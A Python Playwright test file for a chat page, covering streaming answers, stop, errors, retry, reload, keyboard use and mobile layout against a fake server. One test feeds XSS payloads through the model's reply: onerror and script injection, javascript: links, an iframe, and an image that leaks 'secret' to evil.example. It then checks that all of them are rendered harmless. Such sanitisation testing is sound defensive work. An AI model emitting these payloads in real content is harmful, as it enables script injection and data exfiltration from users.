"""The chat page in a real Chromium, against a server that answers, stalls and fails on request."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.serving.gateway.page.browser import ChatPage, Open
from tests.serving.gateway.page.fake_openai import FakeOpenAI
from tests.waiting import until

pytestmark = pytest.mark.browser


def test_an_answer_arrives_bit_by_bit_and_ends_as_markdown(chat: ChatPage) -> None:
    chat.page.evaluate(
        """() => { window.seen = new Set();
        new MutationObserver(() => window.seen.add(document.querySelector('.assistant .body')?.textContent))
          .observe(document.getElementById('messages'), {subtree: true, childList: true, characterData: true}); }"""
    )
    text = chat.ask("hello")
    assert chat.page.evaluate("window.seen.size") > 3
    assert "你好世界 🎉" in text and "**" not in text
    for part in ("strong", "ol > li", "table th", ".code .hljs-keyword", "a[rel~=noopener][target=_blank]"):
        assert chat.page.locator(f".assistant .body {part}").count() > 0, part
    stats = chat.page.locator(".assistant .stats").inner_text()
    for words in ("first token", "tokens/s", "tokens", "prompt 12"):
        assert words in stats
    assert "of 32,768 context tokens" in chat.page.inner_text("#context")


@pytest.mark.parametrize("how", ["button", "escape"])
def test_stop_keeps_the_text_and_frees_the_stream(chat: ChatPage, fake: FakeOpenAI, how: str) -> None:
    chat.send("/slow")
    chat.page.wait_for_selector(".assistant[data-state=streaming]")
    expect(chat.page.locator(".assistant .body")).to_contain_text("word word")
    chat.page.click("#stop") if how == "button" else chat.page.keyboard.press("Escape")
    assert chat.wait("stopped").startswith("word")
    until(lambda: fake.open_streams == 0)
    assert chat.page.is_visible("#send") and not chat.page.is_visible("#stop")
    assert "word" in chat.ask("/say word again") and chat.page.locator(".message").count() == 4


def test_stop_before_the_first_token(chat: ChatPage, fake: FakeOpenAI) -> None:
    chat.send("/hang")
    until(lambda: fake.open_streams == 1)
    chat.page.click("#stop")
    chat.wait("stopped")
    until(lambda: fake.open_streams == 0)


ERRORS = [
    ("/status 400", "no longer fits"),
    ("/status 401", "API key"),
    ("/status 422", "temperature: must be between 0 and 2"),
    ("/status 429", "queue is full"),
    ("/status 500", "server failed"),
    ("/status 503", "shutting down"),
    ("/break", "broke off"),
    ("/event", "engine: it broke"),
]


def test_errors_are_told_in_words_with_a_retry_button(chat: ChatPage) -> None:
    shown = chat.page.locator(".message:last-child [role=alert]")
    for asked, words in ERRORS:
        chat.send(asked)
        expect(shown).to_contain_text(words)
        assert shown.locator("button", has_text="Retry").count() == 1
        chat.page.keyboard.press("Escape")  # closes the settings that a missing key opens


def test_a_question_that_was_too_long_does_not_spoil_the_next(chat: ChatPage, fake: FakeOpenAI) -> None:
    chat.ask("hello")
    chat.send("/status 400")
    chat.page.wait_for_selector(".assistant[data-state=error]")
    chat.ask("shorter")
    assert [m["content"] for m in fake.requests[-1]["messages"] if m["role"] == "user"] == ["hello", "shorter"]
    chat.page.reload()
    chat.ask("and now?")
    asked = [m["content"] for m in fake.requests[-1]["messages"] if m["role"] == "user"]
    assert asked == ["hello", "shorter", "and now?"]


def test_a_broken_stream_keeps_what_came(chat: ChatPage) -> None:
    chat.send("/break")
    assert chat.wait("error") == "It starts well and"


def test_429_says_how_long_to_wait_and_retry_works_then(chat: ChatPage, fake: FakeOpenAI) -> None:
    fake.refuse = "429"
    chat.send("hello")
    chat.wait("error")
    assert "try again in 2 s" in chat.page.inner_text(".assistant [role=alert]")
    assert chat.page.is_disabled("[role=alert] button")
    fake.refuse = None
    chat.page.evaluate("Date.now = () => 0")  # the host's clock is set back: the wait is no longer
    chat.page.click("[role=alert] button")  # waits until it is enabled
    chat.wait("done")
    assert chat.page.locator(".message").count() == 2
    assert [message["role"] for message in fake.requests[-1]["messages"]] == ["user"]


def test_a_server_that_is_gone_is_told(chat: ChatPage) -> None:
    chat.page.route("**/v1/chat/completions", lambda route: route.abort("connectionrefused"))
    chat.send("hello")
    chat.wait("error")
    assert "cannot be reached" in chat.page.inner_text(".assistant [role=alert]")


def test_reload_keeps_the_conversation_and_the_next_answer_sees_it(chat: ChatPage, fake: FakeOpenAI) -> None:
    answer = chat.ask("/say one *two*")
    chat.page.reload()
    assert chat.text() == answer == "one two"
    chat.ask("and?")
    sent = [(message["role"], message["content"]) for message in fake.requests[-1]["messages"]]
    assert sent == [("user", "/say one *two*"), ("assistant", "one *two*"), ("user", "and?")]


def test_reload_in_the_middle_of_an_answer(chat: ChatPage, fake: FakeOpenAI) -> None:
    chat.send("/slow")
    chat.page.wait_for_selector(".assistant[data-state=streaming]")
    chat.page.reload()
    assert chat.wait("stopped").startswith("word")
    until(lambda: fake.open_streams == 0)


def test_new_chat_forgets(chat: ChatPage, fake: FakeOpenAI) -> None:
    chat.ask("/say secret")
    chat.page.click("#new-chat")
    chat.page.reload()
    assert chat.page.is_visible("#empty") and chat.page.locator(".message").count() == 0
    chat.ask("/say fresh")
    assert len(fake.requests[-1]["messages"]) == 1


def test_edit_and_answer_again_replace_the_last_turn(chat: ChatPage, fake: FakeOpenAI) -> None:
    chat.ask("/say first")
    chat.page.click(".user [data-action=edit]")
    assert chat.page.input_value("#input") == "/say first"
    assert chat.ask("/say second") == "second"
    chat.page.click(".assistant [data-action=retry]")
    expect(chat.page.locator("#stop")).to_be_hidden()
    assert chat.page.locator(".message").count() == 2
    assert [request["messages"][-1]["content"] for request in fake.requests] == [
        "/say first",
        "/say second",
        "/say second",
    ]


def test_text_of_the_model_is_inert(chat: ChatPage) -> None:
    outside: list[str] = []
    chat.page.on("request", lambda request: outside.append(request.url))
    host = chat.page.evaluate("location.origin")
    chat.ask(
        '/say <img src=x onerror="window.pwned=1"><script>window.pwned=1</script> [a](javascript:window.pwned=1) '
        '![p](https://evil.example/?q=secret) <a href="https://evil.example" onclick="window.pwned=1">b</a> '
        "<style>*{display:none}</style> <iframe src=//evil.example></iframe> [c](data:text/html,x) "
        "```html\n<script>window.pwned=1</script>\n```"
    )
    chat.page.reload()
    body = chat.page.locator(".assistant .body")
    assert body.locator("img, script, style, iframe, [onclick], [onerror], [style]").count() == 0
    links = body.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert [link for link in links if link and not link.startswith("https://")] == []
    assert "<script>window.pwned=1</script>" in body.inner_text()
    assert chat.page.evaluate("window.pwned") is None
    assert [url for url in outside if not url.startswith(host)] == []


def test_keyboard(chat: ChatPage, fake: FakeOpenAI) -> None:
    assert chat.page.evaluate("document.activeElement.id") == "input"
    chat.page.keyboard.type("/say one")
    chat.page.keyboard.press("Shift+Enter")
    chat.page.keyboard.type("two")
    assert fake.requests == []
    composing = "new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true, cancelable: true})"
    chat.page.evaluate(f"document.getElementById('input').dispatchEvent({composing})")
    assert fake.requests == [], "Enter of an input method must not send"
    chat.page.keyboard.press("Enter")
    chat.wait("done")
    assert fake.requests[0]["messages"][-1]["content"] == "/say one\ntwo"
    assert chat.page.evaluate("document.activeElement.id") == "input"
    assert chat.page.input_value("#input") == ""
    chat.page.keyboard.press("Enter")
    assert len(fake.requests) == 1, "an empty message is not sent"


@pytest.mark.parametrize("width", [320, 390])
def test_a_phone_does_not_scroll_sideways(open_page: Open, width: int) -> None:
    chat = open_page(viewport={"width": width, "height": 700}, has_touch=True, is_mobile=True)
    chat.ask("hello")
    chat.ask("/say " + "x" * 300 + "\n\n```\n" + "y" * 300 + "\n```\n\n|" + "wide|" * 20 + "\n|" + "---|" * 20)
    chat.send("/status 429")
    chat.wait("error")
    overflow = (
        "() => [document.documentElement, document.querySelector('main')].map(e => e.scrollWidth - e.clientWidth)"
    )
    assert chat.page.evaluate(overflow) == [0, 0]
    chat.page.click("#open-settings")
    assert chat.page.evaluate("document.getElementById('settings').scrollWidth") <= width


def test_a_touch_screen_is_not_told_about_keys(open_page: Open) -> None:
    assert "Shift+Enter" in open_page().page.locator("#context").inner_text()
    phone = open_page(viewport={"width": 390, "height": 700}, has_touch=True, is_mobile=True)
    assert phone.page.locator("#context").inner_text() == ""


def test_the_text_is_followed_only_from_the_end(chat: ChatPage) -> None:
    lines = "\n\n".join(f"line {number}" for number in range(60))
    log = chat.page.locator("#log")
    below = "log => log.scrollHeight - log.scrollTop - log.clientHeight"
    chat.ask(f"/say {lines}")
    assert log.evaluate(below) < 2
    chat.send("/slow")
    chat.page.wait_for_selector(".assistant[data-state=streaming]:last-child")
    chat.page.evaluate("document.getElementById('log').scrollTop = 100")
    chat.page.wait_for_selector("#to-end:not([hidden])")
    chat.page.wait_for_timeout(300)
    assert chat.page.evaluate("document.getElementById('log').scrollTop") == 100
    chat.page.click("#to-end")
    chat.page.wait_for_timeout(300)
    assert log.evaluate(below) < 24
